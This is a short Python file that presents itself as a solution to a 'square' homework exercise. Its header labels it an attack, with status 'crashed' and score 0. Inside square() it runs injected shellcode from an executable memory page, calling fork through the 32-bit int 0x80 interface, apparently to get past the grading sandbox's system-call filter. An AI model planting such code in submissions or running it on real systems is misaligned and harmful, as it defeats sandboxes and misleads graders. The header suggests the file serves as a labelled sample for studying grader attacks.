# attack: asks the kernel through its 32-bit door, where other numbers are other calls
# assignment: hw
# exercise: square
# status: crashed
# score: 0
import ctypes
import mmap
import platform

CODE = b"\xb8\x02\x00\x00\x00\xcd\x80\xc3"  # mov eax, 2 (fork); int 0x80; ret
if platform.machine() != "x86_64":
    CODE = b"\x00" * 8
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(CODE)
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))


def square(x):
    return call() and x * x
